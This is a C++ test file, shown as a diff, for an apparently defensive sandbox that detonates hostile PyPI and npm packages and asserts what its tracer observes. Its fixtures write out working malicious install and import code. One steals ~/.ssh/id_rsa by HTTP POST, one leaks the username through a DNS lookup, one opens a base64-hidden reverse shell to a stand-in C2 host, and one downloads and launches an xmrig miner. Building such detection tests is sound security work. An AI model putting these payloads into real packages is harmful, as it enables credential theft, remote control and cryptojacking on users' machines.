@@ -1,0 +1,233 @@
+// batlehub-behavior for real: small hostile packages written here are detonated by the agent
+// in the behavior room (rooms/behavior.toml) under the bwrap runtime — the agent's seccomp
+// filter, Landlock and rlimits, bwrap's namespaces and no network — and what the observer
+// saw is asserted from its trace: the decoy read, the name asked, the connection and what
+// it carried, the programs started, from the phase they happened in.
+#include <gtest/gtest.h>
+
+#include <nlohmann/json.hpp>
+
+#include "real_scanners.h"
+#include "wire/base64.h"
+
+namespace batlehub::testing {
+namespace {
+
+using nlohmann::json;
+
+std::string sdist(const std::string& name, std::vector<TestEntry> files) {
+  std::vector<TestEntry> entries = {dir(name + "-1.0/")};
+  for (TestEntry& f : files) {
+    f.name = name + "-1.0/" + f.name;
+    entries.push_back(std::move(f));
+  }
+  return make_tgz(entries);
+}
+
+std::string npm_package(std::vector<TestEntry> files) {
+  std::vector<TestEntry> entries = {dir("package/")};
+  for (TestEntry& f : files) {
+    f.name = "package/" + f.name;
+    entries.push_back(std::move(f));
+  }
+  return make_tgz(entries);
+}
+
+std::string setup_py(const std::string& name, const std::string& before, const std::string& extra = "") {
+  return "from setuptools import setup\n" + before + "\nsetup(name='" + name + "', version='1.0', packages=['" + name +
+         "']" + extra + ")\n";
+}
+
+// Events of `kind` in `phase`.
+std::vector<json> events(const json& trace, const std::string& kind, const std::string& phase) {
+  std::vector<json> out;
+  for (const json& e : trace.at("events")) {
+    if (e.at("kind") == kind && e.at("phase") == phase) out.push_back(e);
+  }
+  return out;
+}
+
+class BehaviorReal : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    scratch_ = new Scratch();
+    rooms_ = scratch_->root() / "rooms";
+    if (bwrap_unavailable().empty()) {
+      room_error_ = new std::string(
+          build_room_from(rooms_, "behavior", "behavior",
+                          std::string("--binary ") + BATLEHUB_BEHAVIOR_BIN + ":/usr/local/bin/batlehub-behavior"));
+    }
+  }
+  static void TearDownTestSuite() {
+    delete scratch_;
+    scratch_ = nullptr;
+    delete room_error_;
+    room_error_ = nullptr;
+  }
+  void need_bwrap() {
+    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
+    ASSERT_TRUE(room_error_ && room_error_->empty()) << (room_error_ ? *room_error_ : "");
+  }
+
+  // The trace of detonating `archive` (an sdist for "pypi", an npm tarball for "npm").
+  json detonate(const std::string& ecosystem, const std::string& archive, const std::string& import_ms = "8000") {
+    auto rt = bwrap_runtime(*scratch_, rooms_);
+    core::RunSpec spec;
+    spec.label.scanner = "behavior";
+    spec.timeout = std::chrono::seconds(180);
+    if (ecosystem == "pypi") {
+      spec.bundle.entries = {core::BundleEntry::file(*wire::RelPath::parse("in/pkg-1.0.tar.gz"),
+                                                     adapters::memory_blob(archive, "pkg-1.0.tar.gz"))};
+      spec.argv = {"batlehub-behavior", "pypi", "in/pkg-1.0.tar.gz"};
+    } else {
+      spec.bundle.entries = {
+          core::BundleEntry::archive(*wire::RelPath::parse("pkg"), adapters::memory_blob(archive, "pkg.tgz"), true)};
+      spec.argv = {"batlehub-behavior", "npm", "pkg"};
+    }
+    spec.argv.insert(spec.argv.end(), {"--import-timeout-ms", import_ms});
+    auto out = rt->run(spec);
+    EXPECT_TRUE(out) << (out ? "" : out.error().message);
+    if (!out) return json::object();
+    EXPECT_EQ(out->status, 0) << out->stderr_tail;
+    json t = json::parse(out->stdout_bytes, nullptr, false);
+    EXPECT_FALSE(t.is_discarded()) << out->stdout_bytes.substr(0, 2000);
+    return t.is_discarded() ? json::object() : t;
+  }
+
+  static Scratch* scratch_;
+  static fs::path rooms_;
+  static std::string* room_error_;
+};
+Scratch* BehaviorReal::scratch_ = nullptr;
+fs::path BehaviorReal::rooms_;
+std::string* BehaviorReal::room_error_ = nullptr;
+
+TEST_F(BehaviorReal, a_setup_py_that_reads_the_decoy_key_and_posts_it_is_seen_with_the_key_in_the_post) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string pre =
+      "import os, urllib.request\n"
+      "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+      "try:\n"
+      "    urllib.request.urlopen(urllib.request.Request('http://collect.exfil.test/k', data=key.encode(),"
+      " method='POST'), timeout=5)\n"
+      "except Exception as e:\n"
+      "    print('post failed', e)\n";
+  json t =
+      detonate("pypi", sdist("keysend", {file("setup.py", setup_py("keysend", pre)), file("keysend/__init__.py", "")}));
+  ASSERT_TRUE(t.contains("events"));
+  auto decoys = events(t, "decoy-open", "install");
+  ASSERT_FALSE(decoys.empty()) << t.dump(1);
+  EXPECT_EQ(decoys[0].at("decoy"), "ssh-key");
+  EXPECT_EQ(decoys[0].at("path"), "/work/home/.ssh/id_rsa");
+  bool asked = false;
+  for (const json& e : events(t, "dns", "install")) asked = asked || e.at("host") == "collect.exfil.test";
+  EXPECT_TRUE(asked) << t.dump(1);
+  auto streams = events(t, "stream", "install");
+  ASSERT_FALSE(streams.empty()) << t.dump(1);
+  EXPECT_EQ(streams[0].at("protocol"), "http");
+  EXPECT_EQ(streams[0].at("request_line"), "POST /k HTTP/1.1");
+  EXPECT_EQ(streams[0].at("host"), "collect.exfil.test");
+  EXPECT_EQ(streams[0].value("canary", false), true);
+  EXPECT_EQ(streams[0].at("port"), 80);
+  EXPECT_EQ(streams[0].at("address").get<std::string>().rfind("127.77.", 0), 0U);
+  // The install succeeded: the package could not tell.
+  EXPECT_EQ(t.at("phases")[1].at("phase"), "install");
+  EXPECT_EQ(t.at("phases")[1].value("exit_code", -1), 0);
+}
+
+TEST_F(BehaviorReal, a_postinstall_that_resolves_a_name_carrying_the_user_is_seen_asking_it) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string pj = R"({"name":"hostname-dns","version":"1.0.0","scripts":{"postinstall":
+    "node -e \"require('dns').lookup(require('os').userInfo().username + '.' + process.env.npm_package_name + '.dns.exfil.test', () => {})\""}})";
+  json t = detonate("npm", npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}));
+  ASSERT_TRUE(t.contains("events"));
+  std::string asked;
+  for (const json& e : events(t, "dns", "install")) asked = e.at("host");
+  ASSERT_FALSE(asked.empty()) << t.dump(1);
+  EXPECT_TRUE(asked.ends_with(".hostname-dns.dns.exfil.test")) << asked;
+  EXPECT_FALSE(asked.starts_with(".")) << "the user's name is in it: " << asked;
+  auto execs = events(t, "exec", "install");
+  ASSERT_FALSE(execs.empty());
+  EXPECT_EQ(execs[0].at("argv")[0], "sh");
+  EXPECT_EQ(execs[0].at("argv")[1], "-c");
+}
+
+TEST_F(BehaviorReal, an_import_that_execs_decoded_text_opening_a_shell_on_a_connection_is_seen_and_bounded) {
+  BATLEHUB_NEED_BWRAP();
+  // The reverse shell, base64'd: it connects, says hello, and hands the connection to sh -i,
+  // which waits for commands until the import's time is up.
+  const std::string payload =
+      "import socket, subprocess, os\n"
+      "s = socket.create_connection(('c2.exfil.test', 4444))\n"
+      "s.sendall(b'hello from ' + os.uname().nodename.encode())\n"
+      "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
+  const std::string init = "import base64\nexec(base64.b64decode('" + wire::base64_encode(payload) + "'))\n";
+  json t = detonate("pypi", sdist("revsh", {file("setup.py", setup_py("revsh", "")), file("revsh/__init__.py", init)}),
+                    "4000");
+  ASSERT_TRUE(t.contains("events"));
+  EXPECT_TRUE(events(t, "connect", "install").empty()) << "nothing connects at install";
+  auto connects = events(t, "connect", "import");
+  ASSERT_EQ(connects.size(), 1U) << t.dump(1);
+  EXPECT_EQ(connects[0].at("host"), "c2.exfil.test");
+  EXPECT_EQ(connects[0].at("port"), 4444);
+  bool shell = false;
+  for (const json& e : events(t, "exec", "import")) {
+    shell = shell || (e.at("path") == "/bin/sh" && e.at("argv").size() == 2 && e.at("argv")[1] == "-i");
+  }
+  EXPECT_TRUE(shell) << t.dump(1);
+  auto streams = events(t, "stream", "import");
+  ASSERT_EQ(streams.size(), 1U);
+  EXPECT_EQ(streams[0].at("head").get<std::string>().rfind("hello from ", 0), 0U);
+  // The shell waited on the connection; the import's bound ended it.
+  const json& phase = t.at("phases").back();
+  EXPECT_EQ(phase.at("phase"), "import");
+  EXPECT_EQ(phase.at("timed_out"), true);
+}
+
+TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_started_from_a_written_file) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string pre =
+      "import os, subprocess, urllib.request\n"
+      "path = os.path.join(os.environ['TMPDIR'], 'xmrig')\n"
+      "urllib.request.urlretrieve('http://dl.exfil.test/xmrig', path)\n"
+      "os.chmod(path, 0o755)\n"
+      "try:\n"
+      "    subprocess.Popen([path, '-o', 'pool.exfil.test:3333', '-u', '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot',"
+      " '--donate-level', '1'])\n"
+      "except OSError as e:\n"
+      "    print('run failed', e)\n";
+  json t = detonate("pypi", sdist("miner", {file("setup.py", setup_py("miner", pre)), file("miner/__init__.py", "")}));
+  ASSERT_TRUE(t.contains("events"));
+  bool fetched = false;
+  for (const json& e : events(t, "stream", "install"))
+    fetched = fetched || e.at("request_line") == "GET /xmrig HTTP/1.1";
+  EXPECT_TRUE(fetched) << t.dump(1);
+  bool ran = false;
+  for (const json& e : events(t, "exec", "install")) {
+    if (e.at("resolved") != "/work/tmp/xmrig") continue;
+    ran = true;
+    EXPECT_EQ(e.at("argv")[1], "-o");
+    EXPECT_EQ(e.at("argv")[2], "pool.exfil.test:3333");
+  }
+  EXPECT_TRUE(ran) << t.dump(1);
+}
+
+TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_nothing_the_trace_would_hold) {
+  BATLEHUB_NEED_BWRAP();
+  json t = detonate(
+      "pypi", sdist("fastext", {file("setup.py", setup_py("fastext", "from setuptools import Extension",
+                                                          ", ext_modules=[Extension('fastext._c', "
+                                                          "['fastext/_c.c'])]")),
+                                file("fastext/__init__.py", ""), file("fastext/_c.c", "int f(void) { return 1; }\n")}));
+  ASSERT_TRUE(t.contains("phases"));
+  const json& install = t.at("phases")[1];
+  EXPECT_EQ(install.at("phase"), "install");
+  EXPECT_NE(install.value("exit_code", 0), 0) << "the build needs a compiler the room does not have";
+  EXPECT_EQ(t.at("phases").size(), 2U) << "nothing was installed, so nothing is imported";
+  for (const char* kind : {"decoy-open", "dns", "connect", "stream", "datagram", "write"}) {
+    EXPECT_TRUE(events(t, kind, "install").empty()) << kind << ": " << t.dump(1);
+  }
+}
+
+}  // namespace
+}  // namespace batlehub::testing
